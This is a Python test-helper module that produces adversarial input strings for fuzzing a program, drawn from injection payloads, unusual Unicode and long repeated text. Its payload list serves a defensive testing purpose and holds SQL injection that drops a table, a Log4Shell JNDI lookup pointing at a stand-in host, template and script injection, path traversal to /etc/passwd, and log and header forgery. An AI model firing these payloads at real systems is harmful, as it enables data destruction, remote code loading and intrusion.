"""Texts that trip programs: injections, odd Unicode, what a pattern can be made to work hard on."""

from __future__ import annotations

from random import Random

UNSAID = "INVALIDUTF"
"""Stands for octets that are no UTF-8; replaced on the wire by `octets.as_sent`."""

_INJECTIONS = (
    "'; DROP TABLE memory; --",
    '" OR ""="',
    "\\'; --",
    "%",
    "_",
    "*",
    "%s%n%x{0}",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../..",
    "..%2f..%2f",
    "a/../../b",
    "/etc/passwd",
    "s3://bucket/key?versionId=1",
    "namespaces/*",
    "namespaces//memories/",
    'x\n{"level":"error","event":"forged"}',
    "x\r\nset-cookie: a=b",
    "x\u2028y\u2029z\x85w",
    "\x1b[2J\x07\x9b31m",
)
_ODD_UNICODE = (
    "",
    " ",
    "\0",
    "a\0b",
    "\t\r\n",
    "\u202etxt.exe",
    "\u2066a\u2069\u200f",
    "def\u0430ult",
    "ｄｅｆａｕｌｔ",
    "default\u200b",
    "\ufeffdefault",
    "İ",
    "ﬃ",
    "ß",
    "\U0010ffff",
    "\ufdd0\uffff",
    "👩\u200d👩\u200d👧\u200d👦",
    "预算",
    "[1]",
    "[PHONE_1]",
    UNSAID,
)
_REPEATED = (
    *("x", "长", "1", " ", "\n", "(", "[[", "a@", "a.", "1-", "1 ", "1.", "key=", "://a:", "0:", "not ", "我喜欢"),
    *("next ", "e\u0301", "👩\u200d", "\u202e", "eyJa.", "Li Lei ", "，", '"', "\\"),
)
_LENGTHS = (100, 513, 4_097, 20_000, 32_768)
_SURROGATES = range(0xD800, 0xE000)


def odd_text(random: Random) -> str:
    """Return a text that few expect; one in twelve is long."""
    kind = random.randrange(12)
    if kind == 0:
        part = random.choice(_REPEATED)
        return (part * (random.choice(_LENGTHS) // len(part) + 1))[:32_769]
    if kind <= 4:
        return random.choice(_INJECTIONS)
    if kind <= 9:
        return random.choice(_ODD_UNICODE)
    return "".join(character(random) for _ in range(random.randrange(20)))


def character(random: Random) -> str:
    """Return a character of any plane; no surrogate, which UTF-8 cannot say."""
    code = random.randrange(random.choice((0x80, 0x800, 0x10000, 0x110000)))
    return "\ufffd" if code in _SURROGATES else chr(code)


def put_into(random: Random, name: str, odd: str) -> str:
    """Return a name with something put in, or cut."""
    at = random.randrange(len(name) + 1)
    return name[:at] + (odd[:99] + name[at:] if random.random() < 0.7 else "")
